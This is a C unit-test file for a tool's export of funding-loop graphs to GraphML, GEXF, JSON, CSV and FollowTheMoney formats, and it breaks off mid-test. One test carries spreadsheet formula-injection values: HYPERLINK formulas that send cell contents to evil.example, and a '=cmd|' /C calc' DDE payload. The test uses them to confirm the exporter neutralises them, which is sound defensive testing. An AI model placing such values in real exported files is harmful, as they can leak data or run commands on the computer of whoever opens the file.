/* Exports: GraphML, GEXF, node-link JSON and CSV of small datasets, checked by hand. */
#include "helpers.h"
#include "run.h"

#include <jansson.h>
#include <libxml/parser.h>
#include <libxml/xmlerror.h>
#include <libxml/xpath.h>
#include <libxml/xpathInternals.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "export/xml.h"
#include "util/alloc.h"

typedef struct exported {
    rt_dataset *ds;
    rt_graph *g;
    rt_loops *loops;
    char *out;
    size_t len;
} exported;

static void export_loaded(exported *x, const rt_graph_options *go, rt_export_format format)
{
    rt_loop_options lo = RT_LOOP_OPTIONS_INIT;
    rt_export_options eo = RT_EXPORT_OPTIONS_INIT;
    rt_diags *diags;
    int rc;

    assert_int_equal(rt_diags_new(&diags), 0);
    assert_int_equal(rt_graph_build(&x->g, x->ds, go, diags), 0);
    assert_int_equal(rt_loops_find(&x->loops, x->g, &lo), 0);
    eo.format = format;
    rc = rt_export(&x->out, &x->len, x->loops, &eo, diags);
    if (rc != 0) {
        dump_diags(diags);
        fail_msg("export failed: %s", rt_strerror(rc));
    }
    assert_int_equal(strlen(x->out), x->len);
    rt_diags_free(diags);
}

/* Export the dataset at `path` with the default options. */
static exported export_data(const char *path, rt_export_format format)
{
    exported x = {NULL, NULL, NULL, NULL, 0};
    rt_diags *diags;

    assert_int_equal(rt_diags_new(&diags), 0);
    assert_int_equal(rt_dataset_load(&x.ds, path, diags), 0);
    rt_diags_free(diags);
    export_loaded(&x, NULL, format);
    return x;
}

/* Export CSV text, with graph options (NULL: the defaults). */
static exported export_text(const char *entities, const char *relationships,
                            const rt_graph_options *go, rt_export_format format)
{
    exported x = {NULL, NULL, NULL, NULL, 0};
    rt_diags *diags;

    if (load_strings(&x.ds, &diags, entities, relationships) != 0) {
        dump_diags(diags);
        fail_msg("the test dataset does not load");
    }
    rt_diags_free(diags);
    export_loaded(&x, go, format);
    return x;
}

static void done_export(exported *x)
{
    rt_export_free(x->out);
    rt_loops_free(x->loops);
    rt_graph_free(x->g);
    rt_dataset_free(x->ds);
}

/* The export parsed as XML, with prefixes g (GraphML) and x (GEXF 1.3). */
typedef struct xml_doc {
    xmlDocPtr doc;
    xmlXPathContextPtr ctx;
} xml_doc;

static xml_doc parse_xml(const char *text)
{
    xml_doc d;

    d.doc = xmlReadMemory(text, (int)strlen(text), "export.xml", NULL, XML_PARSE_NONET);
    if (!d.doc)
        fail_msg("the export is not well-formed XML:\n%s", text);
    d.ctx = xmlXPathNewContext(d.doc);
    assert_non_null(d.ctx);
    xmlXPathRegisterNs(d.ctx, BAD_CAST "g", BAD_CAST "http://graphml.graphdrawing.org/xmlns");
    xmlXPathRegisterNs(d.ctx, BAD_CAST "x", BAD_CAST "http://gexf.net/1.3");
    return d;
}

static void free_xml(xml_doc *d)
{
    xmlXPathFreeContext(d->ctx);
    xmlFreeDoc(d->doc);
}

/* The string value of an XPath expression ("" when it selects nothing). */
static char *xpath(xml_doc *d, const char *expr)
{
    xmlXPathObjectPtr o = xmlXPathEvalExpression(BAD_CAST expr, d->ctx);
    xmlChar *s;
    char *copy;

    if (!o)
        fail_msg("bad XPath %s", expr);
    s = xmlXPathCastToString(o);
    copy = strdup((const char *)s);
    xmlFree(s);
    xmlXPathFreeObject(o);
    return copy;
}

#define assert_xpath(d, expr, want)                                                                \
    do {                                                                                           \
        char *got_ = xpath((d), (expr));                                                           \
        if (strcmp(got_, (want)) != 0)                                                             \
            fail_msg("%s is \"%s\", not \"%s\"", (expr), got_, (want));                            \
        free(got_);                                                                                \
    } while (0)

/* loops-small (tests/data/loops-small): 7 entities; 10 relationships, of
 * which the last (ChipCo -> BigCo, superseded) carries no money; loop 1
 * BigCo -> LabOne -> BigCo, back through LabOne -> BigCloud (written "BC
 * Cloud", its alias); loop 2 ChipCo -> LabTwo -> ChipCo. */
static void test_export_graphml_has_every_entity_and_each_relationship_kept(void **state)
{
    exported x = export_data(test_data("loops-small"), RT_EXPORT_GRAPHML);
    xml_doc d = parse_xml(x.out);
    (void)state;
    assert_xpath(&d, "count(//g:node)", "7");
    /* Every relationship with a claim, the one that never held among them
     * with holds false: the dataset comes back whole through import. */
    assert_xpath(&d, "count(//g:edge)", "10");
    assert_xpath(&d, "count(//g:edge[g:data[@key='e_holds']='true'])", "9");
    assert_xpath(&d, "//g:edge[@id='r9']/g:data[@key='e_holds']", "false");
    assert_xpath(&d, "//g:edge[@id='r9']/g:data[@key='e_status']", "superseded");
    assert_xpath(&d, "count(//g:edge[@id='r9']/g:data[@key='e_amount'])", "0");
    assert_xpath(&d, "//g:edge[@id='r9']/g:data[@key='e_claim_rows']",
                 "[{\"line\":11,\"amount\":\"500M\",\"status\":\"superseded\",\"date\":\"2025\","
                 "\"source\":\"Paper F\",\"note\":\"superseded: carries no money\"}]");
    assert_xpath(&d, "//g:graph/@edgedefault", "directed");
    assert_xpath(&d, "//g:node[@id='e1']/g:data[@key='n_label']", "BigCloud");
    assert_xpath(&d, "//g:node[@id='e1']/g:data[@key='n_parent']", "BigCo");
    assert_xpath(&d, "//g:node[@id='e1']/g:data[@key='n_counts_as']", "BigCo");
    assert_xpath(&d, "//g:node[@id='e1']/g:data[@key='n_loops']", "1");
    assert_xpath(&d, "//g:node[@id='e5']/g:data[@key='n_loop_count']", "0");
    assert_xpath(&d, "count(//g:node[@id='e5']/g:data[@key='n_loops'])", "0");
    /* LabOne -> BC Cloud: the alias is the entity. */
    assert_xpath(&d, "//g:edge[@id='r1']/@source", "e2");
    assert_xpath(&d, "//g:edge[@id='r1']/@target", "e1");
    assert_xpath(&d, "//g:edge[@id='r1']/g:data[@key='e_amount']", "$4B–6B");
    assert_xpath(&d, "//g:edge[@id='r1']/g:data[@key='e_amount_low_usd']", "4000000000");
    assert_xpath(&d, "//g:edge[@id='r1']/g:data[@key='e_amount_high_usd']", "6000000000");
    assert_xpath(&d, "//g:edge[@id='r1']/g:data[@key='e_loops']", "1");
    assert_xpath(&d, "//g:edge[@id='r1']/g:data[@key='e_first_date']", "2024-03");
    /* BigCloud -> BigCo is inside BigCo: an edge, on no loop. */
    assert_xpath(&d, "//g:edge[@id='r2']/g:data[@key='e_loop_count']", "0");
    assert_xpath(&d, "//g:edge[@id='r3']/g:data[@key='e_class']", "link");
    assert_xpath(&d, "count(//g:edge[@id='r3']/g:data[@key='e_amount'])", "0");
    assert_xpath(&d, "//g:edge[@id='r4']/g:data[@key='e_status']", "talks");
    assert_xpath(&d, "//g:edge[@id='r4']/g:data[@key='e_loops']", "2");
    assert_xpath(&d, "//g:graph/g:data[@key='g_loops']", "2");
    assert_xpath(&d, "//g:graph/g:data[@key='g_consolidate']", "true");
    free_xml(&d);
    done_export(&x);
}

static void test_export_graphml_keys_type_each_value(void **state)
{
    exported x = export_data(test_data("loops-small"), RT_EXPORT_GRAPHML);
    xml_doc d = parse_xml(x.out);
    (void)state;
    assert_xpath(&d, "//g:key[@id='e_amount_low_usd']/@attr.type", "long");
    assert_xpath(&d, "//g:key[@id='e_amount_low_usd']/@for", "edge");
    assert_xpath(&d, "//g:key[@id='e_loop_count']/@attr.type", "int");
    assert_xpath(&d, "//g:key[@id='g_consolidate']/@attr.type", "boolean");
    assert_xpath(&d, "//g:key[@id='n_kinds']/@attr.name", "kinds");
    /* A key for every value written, and no value without its key. */
    assert_xpath(&d, "count(//g:data[not(@key = //g:key/@id)])", "0");
    free_xml(&d);
    done_export(&x);
}

static void test_export_without_consolidation_each_entity_counts_as_itself(void **state)
{
    exported x = {NULL, NULL, NULL, NULL, 0};
    rt_graph_options go = RT_GRAPH_OPTIONS_INIT;
    rt_diags *diags;
    xml_doc d;
    (void)state;
    go.consolidate = false;
    assert_int_equal(rt_diags_new(&diags), 0);
    assert_int_equal(rt_dataset_load(&x.ds, test_data("loops-small"), diags), 0);
    rt_diags_free(diags);
    export_loaded(&x, &go, RT_EXPORT_GRAPHML);
    d = parse_xml(x.out);
    assert_xpath(&d, "//g:node[@id='e1']/g:data[@key='n_counts_as']", "BigCloud");
    /* BigCloud's services to BigCo are no longer inside one party: they
     * close loop 1, BigCo -> LabOne -> BigCloud -> BigCo. */
    assert_xpath(&d, "//g:edge[@id='r2']/g:data[@key='e_loops']", "1");
    assert_xpath(&d, "//g:edge[@id='r1']/g:data[@key='e_loops']", "1");
    assert_xpath(&d, "//g:node[@id='e1']/g:data[@key='n_loops']", "1");
    assert_xpath(&d, "//g:graph/g:data[@key='g_consolidate']", "false");
    free_xml(&d);
    done_export(&x);
}

/* A -> B equity: a $3B talks claim from 2025-01-10 until 2025-03-01, then
 * a $1B one of 2025-06 until 2025-09-15. B -> A compute: $2B of 2025-07
 * and $1B of 2025-07-15 until 2025-10-01, which overlap. */
static const char spells_entities[] = "name,kind\nA,investor\nB,lab\n";
static const char spells_relationships[] = "from,to,kind,amount,status,date,until,source\n"
                                           "A,B,equity,3B,talks,2025-01-10,2025-03-01,S1\n"
                                           "A,B,equity,1B,confirmed,2025-06,2025-09-15,S2\n"
                                           "B,A,compute,2B,confirmed,2025-07,,S3\n"
                                           "B,A,compute,1B,confirmed,2025-07-15,2025-10-01,S4\n";

static void
test_export_gexf_spells_run_from_the_day_a_claim_is_known_to_the_day_before_it_ends(void **state)
{
    rt_graph_options go = RT_GRAPH_OPTIONS_INIT;
    exported x;
    xml_doc d;
    (void)state;
    go.filter.as_of = (rt_date){2025, 8, 15};
    x = export_text(spells_entities, spells_relationships, &go, RT_EXPORT_GEXF);
    d = parse_xml(x.out);
    assert_xpath(&d, "/x:gexf/@version", "1.3");
    assert_xpath(&d, "//x:graph/@mode", "dynamic");
    assert_xpath(&d, "//x:graph/@timeformat", "date");
    assert_xpath(&d, "//x:node[@id='e0']/@label", "A");
    /* The talks, then a gap, then the $1B claim from the last day of
     * 2025-06: its end, 2025-09-15, was not known on 2025-08-15. */
    assert_xpath(&d, "count(//x:edge[@id='r0']//x:spell)", "2");
    assert_xpath(&d, "//x:edge[@id='r0']//x:spell[1]/@start", "2025-01-10");
    assert_xpath(&d, "//x:edge[@id='r0']//x:spell[1]/@end", "2025-02-28");
    assert_xpath(&d, "//x:edge[@id='r0']//x:spell[2]/@start", "2025-06-30");
    assert_xpath(&d, "count(//x:edge[@id='r0']//x:spell[2]/@end)", "0");
    /* Overlapping claims make one spell, from the earlier one's day. */
    assert_xpath(&d, "count(//x:edge[@id='r1']//x:spell)", "1");
    assert_xpath(&d, "//x:edge[@id='r1']//x:spell/@start", "2025-07-15");
    assert_xpath(&d, "//x:edge[@id='r0']/@kind", "equity");
    assert_xpath(&d, "//x:edge[@id='r0']//x:attvalue[@for='loops']/@value", "1");
    free_xml(&d);
    done_export(&x);

    /* Once no claim on it holds, a relationship is no edge. */
    go.filter.as_of = (rt_date){2025, 9, 30};
    x = export_text(spells_entities, spells_relationships, &go, RT_EXPORT_GEXF);
    d = parse_xml(x.out);
    assert_xpath(&d, "count(//x:edge[@id='r0'])", "0"); /* it no longer holds */
    assert_xpath(&d, "count(//x:edge[@id='r1']//x:spell)", "1");
    free_xml(&d);
    done_export(&x);
}

static void test_export_gexf_history_takes_only_the_statuses_asked_for(void **state)
{
    rt_graph_options go = RT_GRAPH_OPTIONS_INIT;
    exported x;
    xml_doc d;
    (void)state;
    go.filter.as_of = (rt_date){2025, 8, 15};
    go.filter.statuses = 1u << RT_STATUS_CONFIRMED;
    x = export_text(spells_entities, spells_relationships, &go, RT_EXPORT_GEXF);
    d = parse_xml(x.out);
    assert_xpath(&d, "count(//x:edge[@id='r0']//x:spell)", "1");
    assert_xpath(&d, "//x:edge[@id='r0']//x:spell/@start", "2025-06-30");
    free_xml(&d);
    done_export(&x);
}

static void test_export_gexf_edge_there_all_along_has_no_spells(void **state)
{
    exported x = export_text("name,kind\nA,investor\nB,lab\n",
                             "from,to,kind,amount,status\nA,B,equity,1B,confirmed\n"
                             "B,A,compute,1B,confirmed\n",
                             NULL, RT_EXPORT_GEXF);
    xml_doc d = parse_xml(x.out);
    (void)state;
    assert_xpath(&d, "count(//x:edge)", "2");
    assert_xpath(&d, "count(//x:spells)", "0");
    free_xml(&d);
    done_export(&x);
}

static void test_export_json_graph_is_node_link_with_edges_under_both_keys(void **state)
{
    exported x = export_data(test_data("loops-small"), RT_EXPORT_JSON_GRAPH);
    json_error_t err;
    json_t *root = json_loads(x.out, 0, &err), *node, *edge;
    (void)state;
    if (!root)
        fail_msg("not JSON (%s):\n%s", err.text, x.out);
    assert_true(json_is_true(json_object_get(root, "directed")));
    assert_true(json_is_true(json_object_get(root, "multigraph")));
    assert_int_equal(json_array_size(json_object_get(root, "nodes")), 7);
    assert_int_equal(json_array_size(json_object_get(root, "edges")), 9);
    assert_true(json_equal(json_object_get(root, "edges"), json_object_get(root, "links")));
    node = json_array_get(json_object_get(root, "nodes"), 1);
    assert_string_equal(json_string_value(json_object_get(node, "id")), "e1");
    assert_string_equal(json_string_value(json_object_get(node, "parent")), "BigCo");
    assert_int_equal(json_integer_value(json_array_get(json_object_get(node, "loops"), 0)), 1);
    assert_string_equal(json_string_value(json_array_get(json_object_get(node, "kinds"), 0)),
                        "cloud");
    edge = json_array_get(json_object_get(root, "edges"), 1);
    assert_string_equal(json_string_value(json_object_get(edge, "source")), "e2");
    assert_string_equal(json_string_value(json_object_get(edge, "target")), "e1");
    assert_string_equal(json_string_value(json_object_get(edge, "key")), "r1");
    assert_int_equal(json_integer_value(json_object_get(edge, "amount_high_usd")), 6000000000);
    /* A value not known is left out, not null. */
    assert_null(json_object_get(json_array_get(json_object_get(root, "nodes"), 5), "loops"));
    assert_null(json_object_get(json_object_get(root, "graph"), "as_of"));
    json_decref(root);
    done_export(&x);
}

/* The line of `text` that starts with `prefix`, up to its CR LF. */
static char *row(const char *text, const char *prefix)
{
    for (const char *p = text; p && *p; p = strchr(p, '\n') ? strchr(p, '\n') + 1 : NULL)
        if (strncmp(p, prefix, strlen(prefix)) == 0) {
            const char *end = strstr(p, "\r\n");
            assert_non_null(end);
            return strndup(p, (size_t)(end - p));
        }
    fail_msg("no row starting with %s in:\n%s", prefix, text);
    return NULL;
}

#define assert_row(text, prefix, want)                                                             \
    do {                                                                                           \
        char *got_ = row((text), (prefix));                                                        \
        assert_string_equal(got_, (want));                                                         \
        free(got_);                                                                                \
    } while (0)

static void test_export_csv_loops_has_a_row_per_loop_with_its_figures(void **state)
{
    exported x = export_data(test_data("loops-small"), RT_EXPORT_CSV_LOOPS);
    (void)state;
    assert_row(x.out, "rank,",
               "rank,members,length,kind,status,circulating_low_usd,circulating_high_usd,ratio,"
               "ratio_low,ratio_high,first_date,last_date");
    /* $4B-6B back against $10B in: 0.5 from the midpoints, 0.4 to 0.6. */
    assert_row(x.out, "1,",
               "1,BigCo -> LabOne -> BigCo,2,direct,confirmed,4000000000,6000000000,0.5000,"
               "0.4000,0.6000,2024-01-15,2024-03");
    assert_row(x.out, "2,",
               "2,ChipCo -> LabTwo -> ChipCo,2,direct,talks,1000000000,1000000000,2.0000,2.0000,"
               "2.0000,2024-06,2025-01");
    assert_null(strstr(x.out, "\r\n3,"));
    done_export(&x);
}

static void test_export_csv_hops_has_a_row_per_hop_and_claim(void **state)
{
    exported x = export_data(test_data("loops-small"), RT_EXPORT_CSV_HOPS);
    (void)state;
    assert_row(x.out, "1,2,",
               "1,2,LabOne,BigCo,LabOne,BigCloud,compute,spend,4B-6B,4000000000,6000000000,"
               "confirmed,2024-03,,Paper B,,3");
    assert_row(x.out, "2,1,",
               "2,1,ChipCo,LabTwo,ChipCo,LabTwo,equity,stake,1B,1000000000,1000000000,reported,"
               "2025-01,,Paper D,,7");
    done_export(&x);
}

/* tests/data/formula: names and sources a spreadsheet would run. */
static void test_export_csv_neutralises_what_a_spreadsheet_would_run(void **state)
{
    exported loops = export_data(test_data("formula"), RT_EXPORT_CSV_LOOPS);
    exported hops = export_data(test_data("formula"), RT_EXPORT_CSV_HOPS);
    (void)state;
    assert_row(loops.out, "1,",
               "1,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\") -> +SUM(1+1) -> "
               "=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",2,direct,confirmed,"
               "1000000000,1000000000,0.5000,0.5000,0.5000,2025-01,2025-02");
    assert_row(loops.out, "2,",
               "2,'@cmd -> +SUM(1+1) -> @cmd,2,direct,confirmed,700000000,700000000,0.7000,0.7000,"
               "0.7000,2025-05,2025-06");
    assert_row(loops.out, "3,",
               "3,\"Comma, \"\"Quoted\"\" Co -> +SUM(1+1) -> Comma, \"\"Quoted\"\" Co\",2,direct,"
               "confirmed,100000000,100000000,0.3333,0.3333,0.3333,2025-07,2025-08");
    assert_row(hops.out, "2,1,",
               "2,1,'@cmd,'+SUM(1+1),'@cmd,'+SUM(1+1),equity,stake,1B,1000000000,1000000000,"
               "confirmed,2025-05,,Plain,'=cmd|' /C calc'!A0,6");
    assert_row(hops.out, "4,2,",
               "4,2,'+SUM(1+1),'-2+3,'+SUM(1+1),'-2+3,compute,spend,3B,3000000000,3000000000,"
               "reported,2025-03,,'-S,,4");
    assert_row(
        hops.out, "4,3,",
        "4,3,'-2+3,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'-2+3,"
        "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",services,spend,500M,"
        "500000000,500000000,confirmed,2025-04,,\"'+x, with a comma\",,5");
    done_export(&loops);
    done_export(&hops);
}

static void test_export_gives_the_same_bytes_for_the_same_input(void **state)
{
    (void)state;
    for (int f = 0; f < RT_EXPORT_FORMAT_COUNT; f++) {
        exported a = export_data(source_path("data/ai-2026"), (rt_export_format)f);
        exported b = export_data(source_path("data/ai-2026"), (rt_export_format)f);
        assert_int_equal(a.len, b.len);
        assert_memory_equal(a.out, b.out, a.len);
        done_export(&a);
        done_export(&b);
    }
}

/* XML 1.0 has no form for U+FFFF (nor for C0 controls, which the loader
 * refuses), though the loader lets it through: it is drawn as U+FFFD. */
static void test_export_xml_writes_what_xml_cannot_hold_as_replacement_characters(void **state)
{
    rt_buf b = RT_BUF_INIT;
    exported x;
    xml_doc d;
    (void)state;
    rt_export__xml_safe(&b, "a\xef\xbf\xbe"
                            "b\x01"
                            "c\xff"
                            "d\te\nf\xef\xbf\xbf");
    assert_string_equal(b.data, "a\xef\xbf\xbd"
                                "b\xef\xbf\xbd"
                                "c\xef\xbf\xbd"
                                "d\te\nf\xef\xbf\xbd");
    rt_buf__free(&b);
    for (int f = RT_EXPORT_GRAPHML; f <= RT_EXPORT_GEXF; f++) {
        x = export_text(
            "name,kind\nX\xef\xbf\xbfY,investor\nB,lab\n",
            "from,to,kind,amount,status,date\nX\xef\xbf\xbfY,B,equity,1B,confirmed,2025-01\n"
            "B,X\xef\xbf\xbfY,compute,1B,confirmed,2025-02\n",
            NULL, (rt_export_format)f);
        d = parse_xml(x.out); /* fails the test when it is not well-formed */
        assert_xpath(&d,
                     f == RT_EXPORT_GRAPHML ? "//g:node[@id='e0']/g:data[@key='n_label']"
                                            : "//x:node[@id='e0']/@label",
                     "X\xef\xbf\xbdY");
        free_xml(&d);
        done_export(&x);
    }
}

static int marker;

static void marker_handler(void *ctx, xmlErrorPtr err)
{
    (void)ctx;
    (void)err;
}

/* libxml2's error handler is the thread's: the export sets its own while
 * it writes (so that libxml2 never prints) and puts the caller's back. */
static void test_export_puts_back_the_callers_libxml2_error_handler(void **state)
{
    exported x;
    (void)state;
    xmlSetStructuredErrorFunc(&marker, marker_handler);
    x = export_data(test_data("loops-small"), RT_EXPORT_GEXF);
    assert_true(xmlStructuredError == marker_handler);
    assert_true(xmlStructuredErrorContext == &marker);
    xmlSetStructuredErrorFunc(NULL, NULL);
    done_export(&x);
}

static void test_export_refuses_bad_options(void **state)
{
    exported x = export_data(test_data("loops-small"), RT_EXPORT_CSV_LOOPS);
    rt_export_options eo = RT_EXPORT_OPTIONS_INIT;
    rt_loop_options lo = RT_LOOP_OPTIONS_INIT;
    rt_loops *counted;
    char *out = NULL;
    size_t len = 0;
    (void)state;
    eo.version = 0;
    assert_int_equal(rt_export(&out, &len, x.loops, &eo, NULL), RT_EINVAL);
    eo.version = RT_EXPORT_OPTIONS_VERSION;
    eo.format = RT_EXPORT_FORMAT_COUNT;
    assert_int_equal(rt_export(&out, &len, x.loops, &eo, NULL), RT_EINVAL);
    eo.format = RT_EXPORT_GRAPHML;
    assert_int_equal(rt_export(&out, &len, NULL, &eo, NULL), RT_EINVAL);
    lo.count_only = true;
    assert_int_equal(rt_loops_find(&counted, x.g, &lo), 0);
    assert_int_equal(rt_export(&out, &len, counted, &eo, NULL), RT_EINVAL);
    rt_loops_free(counted);
    rt_export_free(NULL);
    done_export(&x);
}

static void test_export_format_names_read_back(void **state)
{
    rt_export_format f;
    (void)state;
    for (int i = 0; i < RT_EXPORT_FORMAT_COUNT; i++) {
        assert_int_equal(rt_export_format_parse(&f, rt_export_format_name((rt_export_format)i)), 0);
        assert_int_equal(f, i);
    }
    assert_string_equal(rt_export_format_name(RT_EXPORT_JSON_GRAPH), "json-graph");
    assert_int_equal(rt_export_format_parse(&f, "csv"), RT_EINVAL);
    assert_int_equal(rt_export_format_parse(&f, NULL), RT_EINVAL);
    assert_null(rt_export_format_name(RT_EXPORT_FORMAT_COUNT));
}

/* The stable id of a FollowTheMoney record: "rt-e-"/"rt-c-" and FNV-1a
 * over its key with a 64-bit finalizer, written out here independently. */
static void ftm_id(char *buf, size_t len, const char *prefix, const char *key, size_t n)
{
    uint64_t h = UINT64_C(14695981039346656037);

    for (size_t i = 0; i < n; i++) {
        h ^= (unsigned char)key[i];
        h *= UINT64_C(1099511628211);
    }
    h ^= h >> 33;
    h *= UINT64_C(0xff51afd7ed558ccd);
    h ^= h >> 33;
    h *= UINT64_C(0xc4ceb9fe1a85ec53);
    h ^= h >> 33;
    snprintf(buf, len, "%s%016llx", prefix, (unsigned long long)h);
}

/* FollowTheMoney: a Company per entity, a schema per claim by its class,
 * its line as recordId, and the history the filters see (hand-checked). */
static void test_export_ftm_writes_a_record_per_claim(void **state)
{
    static const char ents[] = "name,kind,parent\nBig,investor,\nSub,cloud,Big\nLab,lab,\n";
    static const char rels[] = "from,to,kind,amount,status,date,until,source,url\n"
                               "Big,Lab,equity,10B,confirmed,2024-01-15,,Paper,https://a.example/\n"
                               "Lab,Sub,compute,4B-6B,reported,2024-03,2025-06,,\n"
                               "Big,Lab,loan,1B,talks,2025,,,\n"
                               "Sub,Lab,hosting,,confirmed,2026-01-02,,,\n";
    static const char *const keys[] = {"Big\x1fLab\x1f"
                                       "equity\x1f"
                                       "2024-01-15\x1fPaper\x1f"
                                       "10B",
                                       "Lab\x1fSub\x1f"
                                       "compute\x1f"
                                       "2024-03\x1f\x1f"
                                       "4B-6B",
                                       "Big\x1fLab\x1floan\x1f"
                                       "2025\x1f\x1f"
                                       "1B",
                                       "Sub\x1fLab\x1fhosting\x1f"
                                       "2026-01-02\x1f\x1f"};
    rt_graph_options go = RT_GRAPH_OPTIONS_INIT;
    exported x = export_text(ents, rels, NULL, RT_EXPORT_FTM);
    char big[32], sub[32], lab[32], c[4][32], want[4096], err[64];
    (void)state;
    ftm_id(big, sizeof(big), "rt-e-", "big", 3);
    ftm_id(sub, sizeof(sub), "rt-e-", "sub", 3);
    ftm_id(lab, sizeof(lab), "rt-e-", "lab", 3);
    for (int i = 0; i < 4; i++)
        ftm_id(c[i], sizeof(c[i]), "rt-c-", keys[i], strlen(keys[i]));
    snprintf(want, sizeof(want),
             "{\"id\":\"%s\",\"schema\":\"Company\",\"properties\":{\"name\":[\"Big\"],"
             "\"classification\":[\"investor\"]}}\n"
             "{\"id\":\"%s\",\"schema\":\"Company\",\"properties\":{\"name\":[\"Sub\"],"
             "\"classification\":[\"cloud\"],\"parent\":[\"%s\"]}}\n"
             "{\"id\":\"%s\",\"schema\":\"Company\",\"properties\":{\"name\":[\"Lab\"],"
             "\"classification\":[\"lab\"]}}\n"
             "{\"id\":\"%s\",\"schema\":\"Ownership\",\"properties\":{\"owner\":[\"%s\"],\"asset\":"
             "[\"%s\"],"
             "\"sharesValue\":[\"10B\"],\"status\":[\"confirmed\"],\"summary\":[\"confirmed\"],"
             "\"date\":[\"2024-01-15\"],\"publisher\":[\"Paper\"],\"sourceUrl\":[\"https://"
             "a.example/\"],"
             "\"recordId\":[\"2\"]}}\n"
             "{\"id\":\"%s\",\"schema\":\"Payment\",\"properties\":{\"payer\":[\"%s\"],"
             "\"beneficiary\":[\"%s\"],\"purpose\":[\"compute\"],\"amount\":[\"4B-6B\"],"
             "\"amountUsd\":[\"4000000000\"],\"summary\":[\"reported\"],\"date\":[\"2024-03\"],"
             "\"endDate\":[\"2025-06\"],\"recordId\":[\"3\"]}}\n"
             "{\"id\":\"%s\",\"schema\":\"Debt\",\"properties\":{\"creditor\":[\"%s\"],\"debtor\":["
             "\"%s\"],"
             "\"amount\":[\"1B\"],\"amountUsd\":[\"1000000000\"],\"summary\":[\"talks\"],"
             "\"date\":[\"2025\"],\"recordId\":[\"4\"]}}\n"
             "{\"id\":\"%s\",\"schema\":\"UnknownLink\",\"properties\":{\"subject\":[\"%s\"],"
             "\"object\":[\"%s\"],\"role\":[\"hosting\"],\"status\":[\"confirmed\"],"
             "\"summary\":[\"confirmed\"],\"date\":[\"2026-01-02\"],\"recordId\":[\"5\"]}}\n",
             big, sub, big, lab, c[0], big, lab, c[1], lab, sub, c[2], big, lab, c[3], sub, lab);
    assert_string_equal(x.out, want);
    done_export(&x);
    /* As of 2024-12: the claims made by then, and the compute's end, not
     * come yet, left out. */
    assert_int_equal(rt_date_parse(&go.filter.as_of, "2024-12", err, sizeof(err)), 0);
    x = export_text(ents, rels, &go, RT_EXPORT_FTM);
    assert_non_null(strstr(x.out, "\"Ownership\""));
    assert_non_null(strstr(x.out, "\"Payment\""));
    assert_null(strstr(x.out, "\"Debt\""));
    assert_null(strstr(x.out, "UnknownLink"));
    assert_null(strstr(x.out, "endDate"));
    done_export(&x);
    /* Only the statuses asked for. */
    go = (rt_graph_options)RT_GRAPH_OPTIONS_INIT;
    go.filter.statuses = 1u << RT_STATUS_TALKS;
    x = export_text(ents, rels, &go, RT_EXPORT_FTM);
    assert_non_null(strstr(x.out, "\"Debt\""));
    assert_null(strstr(x.out, "\"Payment\""));
    assert_null(strstr(x.out, "\"Ownership\""));
    done_export(&x);
}

/* Every allocation of ours failing in turn: RT_ENOMEM each time, then the
 * whole export (libxml2's and jansson's own allocations are theirs). */
static void test_export_survives_every_allocation_failure(void **state)
{
    static const char *const want[RT_EXPORT_FORMAT_COUNT] = {
        "</graphml>", "</gexf>", "\"links\"", "1,BigCo", "2,2,LabTwo", "\"schema\":\"Ownership\""};
    rt_diags *diags;
    rt_dataset *ds;
    rt_graph *g;
    rt_loops *loops;
    rt_loop_options lo = RT_LOOP_OPTIONS_INIT;
    (void)state;
    assert_int_equal(rt_diags_new(&diags), 0);
    assert_int_equal(rt_dataset_load(&ds, test_data("loops-small"), diags), 0);
    assert_int_equal(rt_graph_build(&g, ds, NULL, diags), 0);
    assert_int_equal(rt_loops_find(&loops, g, &lo), 0);
    for (int f = 0; f < RT_EXPORT_FORMAT_COUNT; f++) {
        rt_export_options eo = RT_EXPORT_OPTIONS_INIT;
        long failures = 0;
        eo.format = (rt_export_format)f;
        for (long n = 1; n < 100000; n++) {
            char *out = NULL;
            size_t len = 0;
            int rc;
            bool failed;
            rt__alloc_fail_after(n);
            rc = rt_export(&out, &len, loops, &eo, NULL);
            rt__alloc_fail_after(0);
            failed = rt__alloc_failed();
            if (rc != 0) {
                if (rc != RT_ENOMEM || !failed)
                    fail_msg("%s, allocation %ld: %s", rt_export_format_name(eo.format), n,
                             rt_strerror(rc));
                assert_null(out);
                failures++;
            } else if (!strstr(out, want[f])) {
                fail_msg("run %ld succeeded without \"%s\":\n%s", n, want[f], out);
            }
            rt_export_free(out);
            if (!failed) {
                assert_int_equal(rc, 0);
                break;
            }
        }
        assert_true(failures > 3);
    }
    rt_loops_free(loops);
    rt_graph_free(g);
    rt_dataset_free(ds);
    rt_diags_free(diags);
}

/* The command: -o, formats from the extension, exit statuses. */
static void test_export_command_writes_the_format_its_output_names(void **state)
{
    char dir[] = "/tmp/rt-export-XXXXXX", path[256];
    run_result r;
    char *text;
    (void)state;
    assert_non_null(mkdtemp(dir));
    snprintf(path, sizeof(path), "%s/g.gexf", dir);
    r = run("export", test_data("loops-small"), "-o", path, NULL);
    assert_int_equal(r.status, 0);
    assert_string_equal(r.out, "");
    done(&r);
    text = read_all(path, NULL);
    assert_non_null(text);
    assert_non_null(strstr(text, "<gexf xmlns=\"http://gexf.net/1.3\" version=\"1.3\">"));
    free(text);
    unlink(path);
    rmdir(dir);
    r = run("export", "--format", "csv-loops", "--status", "confirmed", test_data("loops-small"),
            "-o", "-", NULL);
    assert_int_equal(r.status, 0);
    assert_non_null(strstr(r.out, "\r\n1,BigCo -> LabOne -> BigCo,"));
    assert_null(strstr(r.out, "ChipCo -> LabTwo")); /* a loop of talks */
    done(&r);
}

static void test_export_command_exit_statuses(void **state)
{
    run_result r;
    (void)state;
    r = run("export", test_data("loops-small"), NULL);
    assert_int_equal(r.status, 64);
    assert_contains(r.err, "roundtrip export: missing -o OUT");
    done(&r);
    r = run("export", test_data("loops-small"), "-o", "loops.csv", NULL);
    assert_int_equal(r.status, 64);
    assert_contains(r.err, "cannot tell the format of 'loops.csv'");
    done(&r);
    r = run("export", test_data("loops-small"), "-o", "-", NULL);
    assert_int_equal(r.status, 64);
    assert_contains(r.err, "say the format with --format");
    done(&r);
    r = run("export", "--format", "gml", test_data("loops-small"), "-o", "-", NULL);
